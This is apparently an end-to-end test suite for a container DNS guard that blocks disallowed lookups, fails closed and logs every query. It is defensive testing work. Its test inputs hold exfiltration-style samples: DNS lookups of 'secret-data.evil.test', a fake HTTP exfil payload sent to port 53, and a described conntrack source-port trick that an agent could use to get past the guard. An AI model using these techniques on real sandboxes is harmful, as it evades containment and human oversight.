"""The DNS guard behind the real firewall, in a network namespace.

Box = the container: the firewall applied with --dns-guard-port and the guard
running as the proxy uid. Net host = the internet, whose resolver (named in the
box's resolv.conf) records every query that reaches it: that record is what
says whether a name left the box.
"""

from __future__ import annotations

import json
import os
import queue
import secrets
import shutil
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import jsonschema
import pytest

from runtime import paths
from runtime.container.dnsguard import UPSTREAM_PORTS
from runtime.core.policy import Mode, Policy, make_rule
from runtime.trafficlog import schema_path
from tests.harness import python_bin

pytestmark = pytest.mark.e2e

APP_UID = 64011
PROXY_UID = 64012
DNS_PORT = paths.DNS_GUARD_PORT
RECORDS = {
    "example.com": ["198.18.0.80", "2001:db8::80"],
    "www.allowed.test": ["198.18.0.81"],
    "secret-data.evil.test": ["198.18.0.66"],
}


class Guarded:
    def __init__(self, topo, src, tmp):
        self.topo, self.src, self.tmp = topo, src, tmp
        self.upstream_seen: queue.Queue[dict] = queue.Queue()
        self.log = tmp / "traffic.jsonl"

    def env(self) -> dict[str, str]:
        return {"PYTHONPATH": self.src, "SECURE_PROXY_RUN_DIR": str(self.tmp / "run")}

    def query(self, name, server=None, tcp=False, user=APP_UID, qtype="A", port=53, source=0):
        argv = [python_bin(), "-m", "tests.harness.dns", "query", "--name", name]
        argv += ["--server", server or self.topo.net_ip, "--type", qtype, "--port", str(port)]
        argv += ["--source-port", str(source)]
        argv += ["--timeout", "2"] + (["--tcp"] if tcp else [])
        r = self.topo.box_run(argv, user=user, env={"PYTHONPATH": self.src}, timeout=15)
        return json.loads(r.stdout)

    def names_upstream(self, wait: float = 0.5) -> list[str]:
        """Names the real resolver received since the last call."""
        time.sleep(wait)
        out = []
        while not self.upstream_seen.empty():
            out.append(self.upstream_seen.get()["name"])
        return out

    def log_lines(self) -> list[dict]:
        return [json.loads(x) for x in self.log.read_text().splitlines() if x]

    def start_guard(self):
        marker = self.tmp / "guard" / "dnsguard.ready"  # in a directory of the proxy uid
        marker.unlink(missing_ok=True)
        argv = [
            python_bin(),
            "-m",
            "runtime.container.dnsguard",
            "--policy",
            str(self.tmp / "policy.json"),
        ]
        argv += ["--traffic-log", str(self.log), "--ready-marker", str(marker)]
        self.guard = self.topo.box_popen(
            argv, user=PROXY_UID, env=self.env(), text=True, stderr=subprocess.STDOUT
        )
        deadline = time.monotonic() + 15
        while not marker.exists():
            assert self.guard.poll() is None, self.guard.stdout.read()
            assert time.monotonic() < deadline, "dns guard never became ready"
            time.sleep(0.05)


@pytest.fixture(scope="module")
def guarded(module_topology, staged_source):
    topo = module_topology
    topo.set_nameservers([topo.net_ip, topo.net_ip6])
    # World-traversable (pytest's tmp dirs are not): the guard runs as the proxy uid.
    tmp = Path(tempfile.mkdtemp(prefix="sp-dnsguard-", dir="/tmp"))
    tmp.chmod(0o755)
    (tmp / "guard").mkdir()
    os.chown(tmp / "guard", PROXY_UID, PROXY_UID)
    g = Guarded(topo, staged_source, tmp)
    server = topo.net_popen(
        [
            *(python_bin(), "-m", "tests.harness.dns", "serve"),
            *("--bind", topo.net_ip, "--bind", topo.net_ip6, "--records", json.dumps(RECORDS)),
        ],
        env={"PYTHONPATH": staged_source},
        text=True,
    )
    assert server.stdout.readline().strip() == "READY"

    def pump():
        for line in server.stdout:
            g.upstream_seen.put(json.loads(line))

    threading.Thread(target=pump, daemon=True).start()
    # Before the lock any name reaches the resolver (the test below is meaningful).
    assert g.query("secret-data.evil.test")["status"] == "ok"
    assert g.names_upstream() == ["secret-data.evil.test"]
    rules = [make_rule("example.com", (), None), make_rule("*.allowed.test", (), None)]
    policy = Policy.build(Mode.ENFORCE, True, rules, "test config")
    (tmp / "policy.json").write_text(json.dumps(policy.to_json()))
    g.log.touch()
    g.log.chmod(0o666)
    r = topo.box_run(
        [
            *(python_bin(), "-m", "firewall", "apply", "--proxy-user", str(PROXY_UID)),
            *("--dns-guard-port", str(DNS_PORT)),
        ],
        env=g.env(),
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    g.start_guard()
    yield g
    shutil.rmtree(tmp, ignore_errors=True)


@pytest.mark.parametrize("tcp", [False, True])
@pytest.mark.parametrize("fam", [4, 6])
def test_allowed_name_resolves_through_the_guard(guarded, fam, tcp):
    server = guarded.topo.net_ip if fam == 4 else guarded.topo.net_ip6
    res = guarded.query("example.com", server=server, tcp=tcp, qtype="A" if fam == 4 else "AAAA")
    assert res["status"] == "ok", res
    assert res["answers"] == (["198.18.0.80"] if fam == 4 else ["2001:db8::80"])
    assert guarded.names_upstream() == ["example.com"]


@pytest.mark.parametrize("tcp", [False, True])
@pytest.mark.parametrize("fam", [4, 6])
def test_other_names_get_nxdomain_and_never_leave(guarded, fam, tcp):
    server = guarded.topo.net_ip if fam == 4 else guarded.topo.net_ip6
    for name in ("secret-data.evil.test", "allowed.test", "example.com.evil.test"):
        res = guarded.query(name, server=server, tcp=tcp)
        assert res["status"] == "nxdomain", (name, res)
    assert guarded.names_upstream() == []


def test_wildcard_rule_allows_names_under_it(guarded):
    assert guarded.query("www.allowed.test")["answers"] == ["198.18.0.81"]
    assert guarded.names_upstream() == ["www.allowed.test"]


def test_any_destination_on_53_is_answered_by_the_guard(guarded):
    """A query to any address (not in resolv.conf, or loopback) is still the guard's."""
    for server in ("198.18.200.200", "127.0.0.1"):
        res = guarded.query("secret-data.evil.test", server=server)
        assert res["status"] == "nxdomain", (server, res)
    assert guarded.names_upstream() == []


def test_non_dns_payload_on_53_is_dropped(guarded):
    code = (
        "import socket,sys\n"
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
        "    s = socket.socket(socket.AF_INET, kind); s.settimeout(1.5)\n"
        "    try:\n"
        f"        s.connect(('{guarded.topo.net_ip}', 53))\n"
        "        s.send(b'\\x00\\x20' + b'GET /exfil?data=secret HTTP/1.1\\r\\n\\r\\n'[:32])\n"
        "        print('ANSWER', s.recv(100))\n"
        "    except (TimeoutError, ConnectionError, OSError) as e:\n"
        "        print('NONE', type(e).__name__)\n"
        "print('END')\n"
    )
    r = guarded.topo.box_run([python_bin(), "-c", code], user=APP_UID, timeout=15)
    lines = r.stdout.split("\n")
    assert lines[-2] == "END", r.stdout + r.stderr
    assert not [ln for ln in lines if ln.startswith("ANSWER") and ln != "ANSWER b''"], r.stdout
    assert guarded.names_upstream() == []


def test_only_proxy_user_reaches_the_resolver_directly(guarded):
    res = guarded.query("secret-data.evil.test", user=PROXY_UID)
    assert res["status"] == "ok", res
    assert guarded.names_upstream() == ["secret-data.evil.test"]


@pytest.mark.parametrize("fam", [4, 6])
def test_a_user_query_on_a_flow_of_the_guard_is_refused(guarded, fam):
    """NAT is decided on a flow's first packet only. A user's query sent from the source
    port of a query the guard just forwarded (same resolver, same port) belongs to the
    guard's conntrack entry: it is not redirected, and the rule accepting established
    traffic would carry it to the resolver, unjudged. Under load this happens by chance
    (the ports are ephemeral); an agent can also do it on purpose."""
    server = guarded.topo.net_ip if fam == 4 else guarded.topo.net_ip6
    port = 41000 + secrets.randbelow(2000) + 2000 * (fam == 6)
    guarded.names_upstream(0)
    first = guarded.query("example.com", server=server, user=PROXY_UID, source=port)
    assert first["status"] == "ok", first
    assert guarded.names_upstream() == ["example.com"]
    second = guarded.query("secret-data.evil.test", server=server, source=port)
    assert second["status"] != "ok", second
    assert guarded.names_upstream() == []


def test_the_guard_asks_from_ports_no_user_socket_is_given(guarded):
    """Its upstream ports lie below the ephemeral range and stay bound: a user socket
    never gets one by chance (and so never rides one of the guard's flows)."""
    guarded.names_upstream(0)
    for _ in range(3):
        assert guarded.query("example.com")["status"] == "ok"
    time.sleep(0.3)
    seen = []
    while not guarded.upstream_seen.empty():
        seen.append(guarded.upstream_seen.get())
    ports = {q["port"] for q in seen}
    assert len(seen) == 3 and len(ports) == 1, seen
    assert ports <= set(UPSTREAM_PORTS), seen


def test_every_query_is_a_log_record(guarded):
    guarded.query("example.com")
    guarded.query("secret-data.evil.test", tcp=True)
    records = guarded.log_lines()[-2:]
    assert [(r["kind"], r["host"], r["action"], r["reason"]) for r in records] == [
        ("dns", "example.com", "ALLOW", "rule_match"),
        ("dns", "secret-data.evil.test", "BLOCK", "host_not_allowed"),
    ]
    assert records[0]["answers"] == 1 and records[1]["rcode"] == "NXDOMAIN"
    assert records[1]["transport"] == "tcp"
    schema = json.loads(schema_path().read_text())
    for line in guarded.log_lines():  # the same schema as the interceptor's lines
        jsonschema.validate(line, schema)
        assert (line["kind"], line["v"]) == ("dns", 1)
    guarded.names_upstream()


def test_guard_down_means_dns_fails_closed(guarded):
    guarded.topo.stop(guarded.guard)
    try:
        res = guarded.query("example.com")
        assert res["status"] != "ok", res
        assert guarded.names_upstream() == []
    finally:
        guarded.start_guard()
    assert guarded.query("example.com")["status"] == "ok"
    guarded.names_upstream()


def test_unwritable_log_means_servfail_and_no_name_leaves(guarded):
    """The policy logs: a query whose line cannot be written gets no answer, and while the
    log stays unwritable no name is forwarded; the refusals are logged once it works."""
    guarded.names_upstream()
    # The guard (proxy uid) cannot create the file again in this root-owned directory; its
    # writer looks at the file it has open once a second.
    guarded.log.unlink()
    time.sleep(1.2)
    first = guarded.query("example.com")
    assert first["status"] == "rcode2", first  # SERVFAIL
    # It was forwarded before its line failed (the line records the answer): at most it.
    assert set(guarded.names_upstream()) <= {"example.com"}
    second = guarded.query("www.allowed.test", tcp=True)
    assert second["status"] == "rcode2", second
    assert guarded.query("secret-data.evil.test")["status"] == "nxdomain"
    assert guarded.names_upstream() == []  # refused before forwarding
    guarded.log.touch()
    guarded.log.chmod(0o666)
    assert guarded.query("example.com")["answers"] == ["198.18.0.80"]
    assert guarded.names_upstream() == ["example.com"]
    lines = guarded.log_lines()
    assert [(x["host"], x["action"], x["reason"], x["rcode"]) for x in lines] == [
        ("example.com", "BLOCK", "log_unavailable", "SERVFAIL"),
        ("www.allowed.test", "BLOCK", "log_unavailable", "SERVFAIL"),
        ("secret-data.evil.test", "BLOCK", "host_not_allowed", "NXDOMAIN"),
        ("example.com", "ALLOW", "rule_match", "NOERROR"),
    ]
    schema = json.loads(schema_path().read_text())
    for line in lines:
        jsonschema.validate(line, schema)
